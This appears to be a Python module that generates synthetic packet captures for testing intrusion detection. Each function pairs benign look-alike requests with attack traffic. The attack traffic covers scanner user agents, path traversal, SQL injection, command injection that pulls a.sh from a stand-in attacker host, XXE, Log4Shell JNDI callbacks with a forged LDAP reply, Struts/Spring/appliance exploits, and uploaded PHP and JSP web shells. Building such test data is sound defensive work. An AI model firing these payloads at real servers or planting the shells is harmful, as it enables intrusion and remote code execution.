"""Attacks on web applications: one capture a family, each with a benign client whose requests nearly look the same."""

from __future__ import annotations

from captures.http import CURL, FORBIDDEN, Exchange, attack, browse, get, multipart, post, request, response, visit
from captures.wire import ATTACKER, SERVER, Capture, TcpConversation

CALLBACK = f"{ATTACKER}:1389"


def scanners() -> Capture:
    """Tools that announce themselves; each from an address of its own, as thresholds count by source."""
    agents = [
        "sqlmap/1.8.4#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Mozilla/5.0 zgrab/0.x",
        "gobuster/3.6",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    ]
    capture = Capture()
    browse(capture, [get("/blog/sqlmap/", response()), get("/search?q=nikto/2.5", response())])
    for number, agent in enumerate(agents):
        pages = [get(uri, agent=agent) for uri in ("/", "/admin", "/backup.zip")]
        visit(capture, pages, f"192.0.2.{70 + number}", 42000 + number)
    browse(capture, sport=50001)
    return capture


def traversal() -> Capture:
    """Ways out of the web root, refused by the server."""
    capture = Capture()
    browse(capture, [get("/help/../account/passwd-reset", response()), get("/icons/logo%2epng", response())])
    attack(
        capture,
        [
            get("/download?file=../../../../etc/passwd", FORBIDDEN),
            get("/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd", FORBIDDEN),
            get("/view?page=..%5c..%5c..%5cwindows%5cwin.ini", FORBIDDEN),
            get("/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/srv/app.conf", FORBIDDEN),
            post("/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh", b"echo; id", FORBIDDEN),
            get("/view?page=..%2f..%2f..%2f..%2fapp/settings.yml", FORBIDDEN),
        ],
    )
    browse(capture, sport=50001)
    return capture


def sqli() -> Capture:
    """SQL injection by UNION, by a true condition, by time, by error message, and to the operating system."""
    capture = Capture()
    innocent = [
        get("/search?q=credit+union+select+checking+account", response()),
        get("/search?author=O'Brien+or+Smith&page=1", response()),
        get("/search?q=sleep+(8+hours)+and+health", response()),
    ]
    browse(capture, innocent)
    attack(
        capture,
        [
            get("/item?id=1'%20UNION%20SELECT%20NULL,NULL,version()--%20-", response()),
            post("/login", b"user=a%27+union+select+password+from+users--&pass=b", FORBIDDEN),
            post("/login", b"user=admin%27+OR+%271%27%3D%271&pass=x", FORBIDDEN),
            get("/item?id=7'%20or%201=1--%20-", response()),
            get("/item?id=1%20AND%20SLEEP(5)", response()),
            get("/item?id=1;WAITFOR%20DELAY%20'0:0:5'--", response()),
            get("/item?id=1%20and%20extractvalue(1,concat(0x7e,version()))", response()),
            get("/item?id=1;EXEC%20master..xp_cmdshell%20'whoami'--", response()),
        ],
    )
    browse(capture, sport=50001)
    return capture


def injection() -> Capture:
    """Input for a shell, an XML parser, a template engine and PHP."""
    xml = {"Content-Type": "application/xml"}
    strict = b'"-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"'
    dtd = b"<!DOCTYPE html PUBLIC " + strict + b"><html/>"
    gadget = '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";}'
    cookie = {"Cookie": "cart=O%3A6%3A%22Logger%22%3A1%3A%7Bs%3A4%3A%22file%22%3Bs%3A5%3A%22x.php%22%3B%7D"}
    capture = Capture()
    innocent = [
        get("/search?q=cat+food;dog+food&sort=whoami.example.org", response()),
        post("/paste", b"greet () { echo hello; }", response(), headers={"Content-Type": "text/plain"}),
        post("/api/import", dtd, response(), headers=xml),
        post("/mail/template", b"text=Dear+{{customer.name}},+thank+you", response()),
        get("/", response(), headers={"Cookie": 'prefs=a:1:{s:4:"lang";s:2:"en";}'}),
        get("/search?q=allow_url_include+deprecated", response()),
    ]
    browse(capture, innocent)
    attack(
        capture,
        [
            get("/ping?host=127.0.0.1;cat%20/etc/hosts"),
            get(f"/cgi-bin/luci/?country=$(wget${{IFS}}http://{ATTACKER}/a.sh)"),
            post("/diag", b"target=127.0.0.1%7Cuname+-a"),
            get("/cgi-bin/status", agent="() { :;}; echo; /usr/bin/id"),
            post("/api/import", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', headers=xml),
            post(
                "/api/import",
                f'<!DOCTYPE a [<!ENTITY % d SYSTEM "http://{ATTACKER}/x.dtd"> %d;]><a/>'.encode(),
                headers=xml,
            ),
            get("/hello?name=%7B%7B''.__class__.__mro__%7D%7D"),
            get("/", agent=gadget),
            get("/", headers=cookie),
            get("/index.php?page=php://filter/convert.base64-encode/resource=config.php"),
            post("/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", b"<?php echo 1;"),
            post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", b'<?php echo md5("probe");'),
        ],
    )
    browse(capture, sport=50001)
    return capture


def log4shell() -> Capture:
    """Lookups in plain and in disguise, then what a vulnerable server does: it asks the LDAP server of the lookup."""
    capture = Capture()
    browse(capture, [get("/?x=${jndi}", response(), headers={"Referer": "https://shop.example.org/jndi:intro"})])
    attack(
        capture,
        [
            get("/", response(), agent=f"${{jndi:ldap://{CALLBACK}/a}}"),
            get(f"/?x=%24%7Bjndi%3Armi%3A%2F%2F{ATTACKER}%2Fa%7D", response()),
            post("/login", f"user=$%7Bjndi:ldap://{CALLBACK}/a%7D&pass=x".encode(), FORBIDDEN),
            post("/api", f'{{"name": "${{${{::-j}}ndi:rmi://{ATTACKER}/a}}"}}'.encode(), FORBIDDEN),
            get("/", response(), agent=f"${{${{lower:j}}ndi:${{lower:l}}dap://{CALLBACK}/a}}"),
            get(
                "/",
                response(),
                headers={"X-Api-Version": f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:ldap://{CALLBACK}/a}}"},
            ),
        ],
    )
    lookup = TcpConversation(capture, SERVER, ATTACKER, 49152, 1389).open()
    lookup.client(bytes.fromhex("300c020101600702010304008000"))  # bindRequest, anonymous
    lookup.server(bytes.fromhex("300c02010161070a010004000400"))  # bindResponse, success
    lookup.client(
        bytes.fromhex("3025 020102 6320 040161 0a0100 0a0103 020100 020100 010100 870b") + b"objectClass" + b"\x30\x00"
    )
    attributes = b"".join(
        _ldap_attribute(name, value)
        for name, value in (
            (b"javaClassName", b"foo"),
            (b"javaCodeBase", f"http://{ATTACKER}:8000/".encode()),
            (b"objectClass", b"javaNamingReference"),
            (b"javaFactory", b"Probe"),
        )
    )
    entry = b"\x04\x01a" + _ber(0x30, attributes)
    lookup.server(_ber(0x30, b"\x02\x01\x02" + _ber(0x64, entry)))
    lookup.close()
    browse(capture, sport=50001)
    return capture


def frameworks() -> Capture:
    """Expressions and class names for Struts, Confluence, Spring and ThinkPHP."""
    ognl = "%{(#test='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"
    capture = Capture()
    routed = {"spring.cloud.function.routing-expression": "headers['kind'] == 'tea' ? 'brew' : 'pour'"}
    innocent = [
        get("/share?text=${title}&via=@java.lang", response()),
        get("/search?q=java+class+module+classloader", response()),
        post("/functionRouter", b"x", response(), headers=routed),
    ]
    browse(capture, innocent)
    spel = {"spring.cloud.function.routing-expression": 'T(java.lang.Runtime).getRuntime().exec("id")'}
    attack(
        capture,
        [
            get("/index.action", headers={"Content-Type": ognl}),
            get("/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"),
            post("/index.action", b"id=%25%7B(%23context%5B%22xwork%22%5D)%7D"),
            post("/greeting", b"class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
            post("/functionRouter", b"x", headers=spel),
            get(
                "/index.php?s=/Index/%5Cthink%5Capp/invokefunction"
                "&function=call_user_func_array&vars[0]=md5&vars[1][]=probe"
            ),
        ],
    )
    browse(capture, sport=50001)
    return capture


def appliances() -> Capture:
    """Mail servers, VPN gateways and file transfer appliances."""
    capture = Capture()
    innocent = [
        get("/autodiscover/autodiscover.json/v1.0/ann@example.org?Protocol=ActiveSync", response()),
        get("/vpn/index.html", response()),
        get("/tmui/login.jsp", response()),
        get("/remote/fgt_lang?lang=en", response()),
    ]
    browse(capture, innocent)
    bypass = {"Connection": "keep-alive, X-F5-Auth-Token", "X-F5-Auth-Token": "a"}
    attack(
        capture,
        [
            post("/autodiscover/autodiscover.json?@example.org/powershell/?X-Rps-CAT=x", b"x"),
            get("/vpn/../vpns/cfg/smb.conf"),
            post(
                "/moveitisapi/moveitisapi.dll?action=m2", b"x", headers={"X-siLock-Transaction": "folder_add_by_path"}
            ),
            get("/human2.aspx", headers={"X-siLock-Comment": "00000000-0000-0000-0000-000000000000"}),
            get("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/hosts"),
            post("/mgmt/tm/util/bash", b"{}", headers=bypass),
            get("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
            get("/api/v1/totp/user-backup-code/../../system/system-information"),
        ],
    )
    browse(capture, sport=50001)
    return capture


def webshells() -> Capture:
    """Web shells that are uploaded, and one at work."""
    php = b"<?php system($_GET['c']); ?>"
    jsp = b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'
    chopper = b"pass=@eval(base64_decode($_POST[z0]));&z0=ZWNobyAxOw%3D%3D"
    text = {"Content-Type": "text/plain"}
    picture_headers, picture = multipart("f", "tea.png", b"\x89PNG\r\n\x1a\n" + bytes(200), "image/png")
    shell_headers, shell = multipart("f", "a.php", php)
    capture = Capture()
    browse(capture, [post("/upload.php", picture, response(), headers=picture_headers)])
    attack(
        capture,
        [
            post("/upload.php", shell, response(), headers=shell_headers),
            Exchange(request("/shell.jsp", "PUT", text, jsp), FORBIDDEN),
            Exchange(request("/probe.jsp/", "PUT", text, b"hello"), FORBIDDEN),
            get("/uploads/a.php?cmd=whoami", response(b"www-data\n"), agent=CURL),
            get(
                "/uploads/a.php?c=id", response(b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"), agent=CURL
            ),
            post("/uploads/a.php", chopper, response(b"1")),
        ],
    )
    browse(capture, sport=50001)
    return capture


def _ber(tag: int, content: bytes) -> bytes:
    """Encode one BER element of up to 65,535 bytes."""
    size = len(content)
    length = bytes([size]) if size < 128 else b"\x82" + size.to_bytes(2, "big")
    return bytes([tag]) + length + content


def _ldap_attribute(name: bytes, value: bytes) -> bytes:
    return _ber(0x30, _ber(0x04, name) + _ber(0x31, _ber(0x04, value)))
